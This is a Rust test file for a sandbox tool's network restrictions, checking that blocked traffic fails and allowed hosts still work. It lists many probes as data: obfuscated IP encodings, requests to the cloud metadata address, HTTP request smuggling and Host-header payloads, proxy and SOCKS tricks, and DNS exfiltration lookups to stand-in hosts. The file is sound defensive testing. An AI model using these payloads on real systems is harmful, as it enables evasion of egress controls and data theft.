//! Every way out that we know of, as data: each succeeds without the sandbox where that is safe, none inside `limited`.

use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{IpAddr, Ipv4Addr, TcpStream};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::process::Stdio;

use super::lab::{Lab, MARKER, find};
use crate::support::{As, Casemate, Finished, lacking, write};

/// Whether a probe works where there is no sandbox.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Without {
    /// It does, so that its failure inside means something.
    Reaches,
    /// It needs root.
    ReachesAsRoot,
    /// It needs what only the sandbox has, or this kernel may lack it.
    Untried,
}
use Without::{Reaches, ReachesAsRoot, Untried};

/// Name, how it is without a sandbox, and the probe as an expression of `probes.py`.
const PROBES: &[(&str, Without, &str)] = &[
    ("name", Reaches, "tcp('other.example')"),
    ("name-dot", Reaches, "tcp('other.example.')"),
    ("ipv4", Reaches, "tcp('93.184.216.35')"),
    ("ipv4-decimal", Reaches, "tcp('1572395043')"),
    ("ipv4-hex", Reaches, "tcp('0x5db8d823')"),
    ("ipv4-octal", Reaches, "tcp('0135.0270.0330.043')"),
    ("ipv4-three-parts", Reaches, "tcp('93.184.55331')"),
    ("ipv4-two-parts", Reaches, "tcp('93.12113955')"),
    ("ipv6", Reaches, "tcp('2606:2800:220:1::35')"),
    ("ipv6-mapped", Reaches, "tcp('::ffff:93.184.216.35')"),
    ("ipv6-mapped-hex", Reaches, "tcp('::ffff:5db8:d823')"),
    ("ipv6-link-local", Reaches, "tcp('fe80::35%v0')"),
    ("ipv6-private", Reaches, "tcp('fd77::1')"),
    ("ipv6-translated", Untried, "tcp('64:ff9b::5db8:d823')"),
    ("private", Reaches, "tcp('10.77.0.1')"),
    ("private-name", Reaches, "tcp('private.example')"),
    ("metadata", Reaches, "tcp('169.254.169.254')"),
    ("metadata-name", Reaches, "tcp('meta.example')"),
    ("carrier", Reaches, "tcp('100.64.0.9')"),
    ("host-loopback", Reaches, "tcp('127.0.0.1', 8099)"),
    ("host-loopback-other", Reaches, "tcp('127.9.9.9', 8099)"),
    ("host-loopback-v6", Reaches, "tcp('::1', 8099)"),
    ("host-any", Reaches, "tcp('0.0.0.0', 8099)"),
    ("host-own-address", Reaches, "tcp('93.184.216.2', 8099)"),
    ("host-abstract-socket", Reaches, "abstract('casemate-probe')"),
    ("other-port", Reaches, "tcp('allowed.example', 8081)"),
    ("dns-port-tcp", Reaches, "tcp('93.184.216.35', 9001)"),
    ("suffix", Reaches, "tcp('allowed.example.evil.example')"),
    ("prefix", Reaches, "tcp('evilallowed.example')"),
    ("unicode", Reaches, "tcp('\\u0430llowed.example'.encode('idna').decode())"),
    ("allowed-by-address", Reaches, "tcp('93.184.216.34')"),
    ("allowed-v6-by-address", Reaches, "tcp('2606:2800:220:1::34')"),
    (
        "private-behind-a-listed-name",
        Reaches,
        "tcp('private.listed', data=b'GET / HTTP/1.0\\r\\nHost: private.listed\\r\\n\\r\\n')",
    ),
    ("fast-open", Reaches, "fast_open('93.184.216.35')"),
    ("multipath", Untried, "tcp('93.184.216.35', protocol=262)"),
    (
        "sctp",
        Untried,
        "opens(socket.AF_INET, socket.SOCK_STREAM, 132) and tcp('93.184.216.35', protocol=132)",
    ),
    // What is said to a host that is allowed.
    ("host-header", Reaches, "evil(EVIL)"),
    ("host-header-second-request", Reaches, "evil(ALLOWED + EVIL)"),
    (
        "host-header-absolute",
        Reaches,
        "evil(b'GET http://other.example/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n')",
    ),
    (
        "host-header-twice",
        Reaches,
        "evil(b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\nHost: other.example\\r\\n\\r\\n')",
    ),
    (
        "host-header-folded",
        Reaches,
        "evil(b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\nX: y\\r\\n Host: z\\r\\nHost: other.example\\r\\n\\r\\n')",
    ),
    ("host-header-bare-lf", Reaches, "evil(b'GET / HTTP/1.1\\nHost: other.example\\n\\n')"),
    ("host-header-after-empty-line", Reaches, "evil(b'\\r\\n' + EVIL)"),
    (
        "host-header-in-pieces",
        Reaches,
        "evil(b'GET / HTTP/1.1\\r\\nA: b\\r\\nHost: other.example\\r\\n\\r\\n')",
    ),
    ("host-header-other-port", Reaches, "evil(EVIL, 'allowed.example', 9000)"),
    (
        "smuggled-length-and-chunks",
        Reaches,
        "evil(b'POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + EVIL)",
    ),
    (
        "smuggled-two-lengths",
        Reaches,
        "evil(b'POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\nContent-Length: 0\\r\\nContent-Length: 99\\r\\n\\r\\n' + EVIL)",
    ),
    (
        "smuggled-chunk-size",
        Reaches,
        "evil(b'POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0x0\\r\\n\\r\\n' + EVIL)",
    ),
    (
        "smuggled-after-chunks",
        Reaches,
        "evil(b'POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\n\\r\\n' + EVIL)",
    ),
    ("upgraded-to-http2", Reaches, "evil(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + EVIL)"),
    ("redirect", Reaches, "redirect('allowed.example/to/other.example')"),
    ("redirect-private", Reaches, "redirect('allowed.example/to/10.77.0.1')"),
    ("redirect-metadata", Reaches, "redirect('allowed.example/to/169.254.169.254')"),
    ("redirect-host-loopback", Reaches, "redirect('allowed.example/to/127.0.0.1:8099')"),
    ("server-name", Reaches, "tcp('allowed.example', 443, hello('other.example'))"),
    ("server-name-missing", Reaches, "tcp('allowed.example', 443, hello(None))"),
    ("server-name-on-80", Reaches, "tcp('allowed.example', 80, hello('other.example'))"),
    ("no-protocol", Reaches, "tcp('allowed.example', 443, b'\\x01\\x02\\x03\\x04')"),
    // The proxy of the sandbox.
    (
        "proxy-url",
        Untried,
        "proxy(b'GET http://other.example/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n', MARKER)",
    ),
    (
        "proxy-url-other-host",
        Untried,
        "proxy(b'GET http://allowed.example/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n', b'MARKER other')",
    ),
    (
        "proxy-url-userinfo",
        Untried,
        "proxy(b'GET http://allowed.example@other.example/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n', MARKER)",
    ),
    (
        "proxy-url-backslash",
        Untried,
        "proxy(b'GET http://allowed.example\\\\@other.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n', MARKER)",
    ),
    (
        "proxy-url-crlf",
        Untried,
        "proxy(b'GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nX: \\rHost: other.example\\r\\n\\r\\n', b'MARKER')",
    ),
    (
        "proxy-pipelined",
        Untried,
        "proxy(b'GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\nGET http://other.example/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n', b'other.example\\n')",
    ),
    ("proxy-connect", Untried, "tunnel(b'other.example:80', EVIL)"),
    ("proxy-connect-address", Untried, "tunnel(b'93.184.216.35:80', EVIL)"),
    ("proxy-connect-hex", Untried, "tunnel(b'0x5db8d823:80', EVIL)"),
    ("proxy-connect-mapped", Untried, "tunnel(b'[::ffff:93.184.216.35]:80', EVIL)"),
    ("proxy-connect-zone", Untried, "tunnel(b'[fe80::35%v0]:80', EVIL)"),
    ("proxy-connect-nul", Untried, "tunnel(b'other.example\\0.allowed.example:80', EVIL)"),
    ("proxy-connect-unicode", Untried, "tunnel('allowed。example:80'.encode(), EVIL)"),
    ("proxy-connect-then-other", Untried, "tunnel(b'allowed.example:80', EVIL)"),
    (
        "proxy-connect-in-connect",
        Untried,
        "tunnel(b'allowed.example:80', b'CONNECT other.example:80 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n', MARKER)",
    ),
    ("proxy-connect-loopback", Untried, "tunnel(b'127.0.0.1:8099', EVIL)"),
    ("proxy-connect-localhost", Untried, "tunnel(b'localhost:8099', EVIL)"),
    ("socks-name", Untried, "socks(3, b'other.example')"),
    ("socks-name-nul", Untried, "socks(3, b'other.example\\0.allowed.example')"),
    ("socks-name-high-bytes", Untried, "socks(3, b'allowed.example\\xff')"),
    ("socks-ipv4", Untried, "socks(1, socket.inet_aton('93.184.216.35'))"),
    ("socks-ipv6", Untried, "socks(4, socket.inet_pton(10, '2606:2800:220:1::35'))"),
    ("socks-mapped", Untried, "socks(4, socket.inet_pton(10, '::ffff:93.184.216.35'))"),
    ("socks-loopback", Untried, "socks(1, b'\\x7f\\0\\0\\x01', 8099)"),
    ("socks-bind", Untried, "socks(3, b'allowed.example', command=2)"),
    ("socks-datagrams", Untried, "socks(3, b'allowed.example', command=3)"),
    ("socks-4", Untried, "socks(1, b'', version=4)"),
    ("relay-port", Untried, "tcp('127.0.0.1', 3129)"),
    // What is not TCP.
    ("udp", Reaches, "MARKER in udp('93.184.216.34', 9001)"),
    ("udp-v6", Reaches, "MARKER in udp('2606:2800:220:1::35', 9001)"),
    ("udp-allowed-name", Reaches, "MARKER in udp('allowed.example', 9001)"),
    ("dns-direct", Reaches, "resolved(udp('93.184.216.53', 53, query('direct.leak.example')))"),
    ("dns-resolver", Reaches, "bool(socket.getaddrinfo('data.leak.example', 80))"),
    (
        "dns-below-allowed",
        Reaches,
        "bool(socket.getaddrinfo('data.allowed.example.leak.example', 80))",
    ),
    ("dns-tcp", Untried, "dns_tcp('93.184.216.53', 'tcp.leak.example')"),
    ("dns-tcp-local", Untried, "dns_tcp('127.0.0.1', 'tcp.leak.example')"),
    ("ping-raw", ReachesAsRoot, "ping(socket.SOCK_RAW, '93.184.216.35')"),
    ("ping-datagram", Untried, "ping(socket.SOCK_DGRAM, '93.184.216.35')"),
    ("raw-datagram", ReachesAsRoot, "raw_udp('93.184.216.35')"),
    ("packet-socket", ReachesAsRoot, "opens(socket.AF_PACKET, socket.SOCK_RAW)"),
    ("vsock", Untried, "opens(40, socket.SOCK_STREAM)"),
    ("xdp", Untried, "opens(44, socket.SOCK_RAW)"),
    ("netlink-filter", Reaches, "opens(16, socket.SOCK_RAW, 12)"),
    ("netlink-diag", Reaches, "opens(16, socket.SOCK_RAW, 4)"),
    (
        "netlink-route",
        ReachesAsRoot,
        "command('/usr/sbin/ip', 'route', 'add', 'blackhole', '203.0.113.0/24')",
    ),
    ("netlink-link", ReachesAsRoot, "command('/usr/sbin/ip', 'link', 'add', 'd9', 'type', 'veth')"),
    ("nftables", ReachesAsRoot, "command('/usr/sbin/nft', 'add', 'table', 'ip', 'probe')"),
    ("low-port", ReachesAsRoot, "socket.create_server(('127.0.0.1', 81)) is not None"),
];

/// What must work all the same.
const ALLOWED: &[(&str, &str)] = &[
    ("allowed", "tcp('allowed.example', data=ALLOWED)"),
    ("allowed-dot", "tcp('allowed.example.', data=ALLOWED)"),
    ("allowed-v6", "tcp('v6.example', data=ALLOWED.replace(b'allowed', b'v6'))"),
    ("allowed-twice", "tcp('allowed.example', data=ALLOWED * 2)"),
    ("allowed-tls", "tcp('allowed.example', 443, hello('allowed.example'))"),
    ("allowed-port", "tcp('allowed.example', 9000, b'PING\\r\\n')"),
    ("allowed-mixed", "tcp('mixed.example', data=ALLOWED.replace(b'allowed', b'mixed'))"),
    ("allowed-literal", "tcp('10.77.0.1', 8088, b'anything')"),
    ("allowed-literal-v6", "tcp('2606:2800:220:1::35', 8088, b'anything')"),
    ("allowed-redirect", "redirect('allowed.example/to/mixed.example')"),
    ("allowed-tunnel", "tunnel(b'allowed.example:80', ALLOWED, MARKER)"),
    ("allowed-socks-literal", "socks(1, socket.inet_aton('10.77.0.1'), 8088)"),
    (
        "allowed-own-server",
        "(lambda server: tcp('127.0.0.1', 8111, b'', b''))(socket.create_server(('127.0.0.1', 8111)))",
    ),
    ("allowed-routes-shown", "opens(16, socket.SOCK_RAW, 0)"),
];

const RULES: [&str; 14] = [
    "--allow-host",
    "[2606:2800:220:1::35]:8088",
    "--allow-host",
    "allowed.example",
    "--allow-host",
    "allowed.example:9000",
    "--allow-host",
    "v6.example",
    "--allow-host",
    "mixed.example",
    "--allow-host",
    "private.listed",
    "--allow-host",
    "10.77.0.1:8088",
];

fn lab() -> Option<Lab> {
    if find("python3").is_none() {
        lacking("python3, for probes");
        return None;
    }
    let lab = Lab::new()?;
    Lab::say_marker(&lab.server, &[80, 443, 8081, 8088, 9000, 9001]);
    Lab::say_marker(&lab.client, &[8099]);
    Lab::echo_datagrams(&lab.server, 9001);
    lab.answer_names(|name, _| match name {
        "private.listed" => vec![IpAddr::V4(Ipv4Addr::new(10, 77, 0, 1))],
        _ => vec![IpAddr::V4(Ipv4Addr::new(93, 184, 216, 35))],
    });
    let link_local = lab
        .server
        .command("ip")
        .args(["addr", "add", "fe80::35/64", "dev", "v0", "nodad"])
        .status();
    assert!(link_local.unwrap().success());
    let address = SocketAddr::from_abstract_name("casemate-probe").unwrap();
    let listener = lab.client.inside(|| UnixListener::bind_addr(&address).unwrap());
    std::thread::spawn(move || {
        for client in listener.incoming() {
            client.unwrap().write_all(MARKER.as_bytes()).unwrap();
        }
    });
    Some(lab)
}

/// Runs probes and reads what became of them.
fn outcomes(
    lab: &Lab,
    casemate: &Casemate,
    who: As,
    flags: Option<&[&str]>,
) -> BTreeMap<String, bool> {
    read(&match flags {
        Some(flags) => lab.sandboxed(casemate, who, flags, &RUN_PROBES).expect(0),
        None => lab.run(casemate, who, &RUN_PROBES).expect(0),
    })
}

const RUN_PROBES: [&str; 4] = ["/usr/bin/python3", "probes.py", "probes.tsv", "-v"];

fn read(done: &Finished) -> BTreeMap<String, bool> {
    let lines = done.stdout();
    let outcomes: BTreeMap<_, _> = lines
        .lines()
        .map(|line| line.split_once(' ').unwrap())
        .map(|(name, outcome)| (name.to_owned(), outcome == "reached"))
        .collect();
    assert_eq!(outcomes.len(), PROBES.len() + ALLOWED.len(), "{done:?}");
    outcomes
}

fn installation(who: As) -> Casemate {
    let casemate = Casemate::of(who);
    casemate.put("probes.py", include_str!("probes.py"));
    let probes = PROBES.iter().map(|(name, _, code)| (*name, *code));
    let lines =
        probes.chain(ALLOWED.iter().copied()).map(|(name, code)| format!("{name}\t{code}\n"));
    write(&casemate.workspace().join("probes.tsv"), &lines.collect::<String>());
    casemate.give_to_user();
    casemate
}

#[test]
fn every_way_out_works_without_a_sandbox_and_none_inside_limited() {
    let Some(lab) = lab() else { return };
    for who in As::all() {
        let casemate = installation(who);
        let without = outcomes(&lab, &casemate, who, None);
        let expected = |without: Without| match without {
            Reaches => Some(true),
            ReachesAsRoot => Some(who == As::Me),
            Untried => None,
        };
        let wrong = PROBES
            .iter()
            .filter(|(name, works, _)| expected(*works).is_some_and(|is| without[*name] != is));
        let wrong: Vec<_> = wrong.map(|(name, ..)| *name).collect();
        assert!(wrong.is_empty(), "{who:?}: these probes prove nothing: {wrong:?}");

        lab.asked.lock().unwrap().clear();
        let inside = outcomes(&lab, &casemate, who, Some(&RULES));
        let reached: Vec<_> =
            PROBES.iter().map(|(name, ..)| *name).filter(|name| inside[*name]).collect();
        assert!(reached.is_empty(), "{who:?}: these got out: {reached:?}");
        let missed: Vec<_> =
            ALLOWED.iter().map(|(name, _)| *name).filter(|name| !inside[*name]).collect();
        assert!(missed.is_empty(), "{who:?}: these are allowed and did not work: {missed:?}");
        // Only names that a rule lists were ever asked for.
        let asked = lab.asked.lock().unwrap();
        assert!(asked.iter().all(|name| name == "private.listed."), "{who:?}: {asked:?}");
    }
}

/// Starts the words that follow where no socket to nftables can be made.
const NO_NFTABLES: &str = "\
import ctypes, os, platform, struct, sys
socket = {'x86_64': 41, 'aarch64': 198}[platform.machine()]
code = [(0x20, 0, 0, 0), (0x15, 0, 5, socket), (0x20, 0, 0, 16), (0x15, 0, 3, 16), (0x20, 0, 0, 32),
        (0x15, 0, 1, 12), (6, 0, 0, 0x50001), (6, 0, 0, 0x7fff0000)]
program = b''.join(struct.pack('HBBI', *line) for line in code)
buffer = ctypes.create_string_buffer(program)
header = struct.pack('HxxxxxxQ', len(code), ctypes.addressof(buffer))
libc = ctypes.CDLL(None, use_errno=True)
assert libc.prctl(38, 1, 0, 0, 0) == 0 and libc.prctl(22, 2, header, 0, 0) == 0, ctypes.get_errno()
os.execv(sys.argv[1], sys.argv[1:])
";

#[test]
fn without_nftables_the_web_works_and_nothing_gets_out_either() {
    let Some(lab) = lab() else { return };
    for who in As::all() {
        let casemate = installation(who);
        let before = ["/usr/bin/python3", "-c", NO_NFTABLES, env!("CARGO_BIN_EXE_casemate")];
        let run = |words: &[&str]| {
            let exec = [&before[..], &["sandbox", "exec"], &RULES, &["--"], words].concat();
            lab.run(&casemate, who, &exec)
        };
        let inside = read(&run(&RUN_PROBES).expect(0));
        let reached = PROBES.iter().map(|(name, ..)| *name).filter(|name| inside[*name]);
        assert_eq!(reached.collect::<Vec<_>>(), [""; 0], "{who:?}: these got out");
        let missed = ALLOWED.iter().map(|(name, _)| *name).filter(|name| !inside[*name]);
        // Ports other than the web's are for programs that take the proxy.
        assert_eq!(
            missed.collect::<Vec<_>>(),
            ["allowed-port", "allowed-literal", "allowed-literal-v6"],
            "{who:?}"
        );
        let curl = ["curl", "-s", "-m", "8", "http://allowed.example:9000/"];
        assert_eq!(run(&curl).expect(0).stdout(), "MARKER allowed.example:9000\n", "{who:?}");
    }
}

#[test]
fn without_networking_nothing_is_reached_at_all() {
    let Some(lab) = lab() else { return };
    for who in As::all() {
        let inside = outcomes(&lab, &installation(who), who, Some(&[]));
        let alone = ["allowed-own-server", "allowed-routes-shown"];
        let reached =
            inside.iter().filter(|(name, reached)| **reached && !alone.contains(&name.as_str()));
        assert_eq!(reached.collect::<Vec<_>>(), [], "{who:?}");
    }
}

#[test]
fn unrestricted_reaches_public_addresses_alone() {
    let Some(lab) = lab() else { return };
    for who in As::all() {
        let inside = outcomes(&lab, &installation(who), who, Some(&["--network", "unrestricted"]));
        for public in [
            "name",
            "ipv4",
            "ipv4-hex",
            "ipv6",
            "host-header",
            "server-name",
            "proxy-connect",
            "socks-name",
        ] {
            assert!(inside[public], "{who:?}: {public}");
        }
        for closed in [
            "private",
            "private-name",
            "metadata",
            "metadata-name",
            "carrier",
            "ipv6-private",
            "ipv6-link-local",
            "ipv6-translated",
            "host-loopback",
            "host-loopback-v6",
            "host-own-address",
            "proxy-connect-loopback",
            "socks-loopback",
            "udp",
            "ping-raw",
            "packet-socket",
            "netlink-route",
            "host-abstract-socket",
        ] {
            assert!(!inside[closed], "{who:?}: {closed}");
        }
    }
}

#[test]
fn ports_of_the_sandbox_cannot_be_reached_from_the_host() {
    let Some(lab) = lab() else { return };
    for who in As::all() {
        let casemate = Casemate::of(who);
        let listen = "import socket,sys; s=socket.create_server(('0.0.0.0',8112)); print('up',flush=True); sys.stdin.read()";
        let program = env!("CARGO_BIN_EXE_casemate");
        let words = [
            program,
            "sandbox",
            "exec",
            "--allow-host",
            "allowed.example",
            "--",
            "/usr/bin/python3",
            "-c",
            listen,
        ];
        let mut command = lab.command(&casemate, who, &words);
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        assert_eq!(line, "up\n");
        for address in ["127.0.0.1:8112", "93.184.216.2:8112", "127.0.0.1:3128", "127.0.0.1:53"] {
            let reached = lab.client.inside(|| TcpStream::connect(address).is_ok());
            assert!(!reached, "{who:?}: {address}");
        }
        drop(child.stdin.take());
        assert!(child.wait().unwrap().success());
    }
}
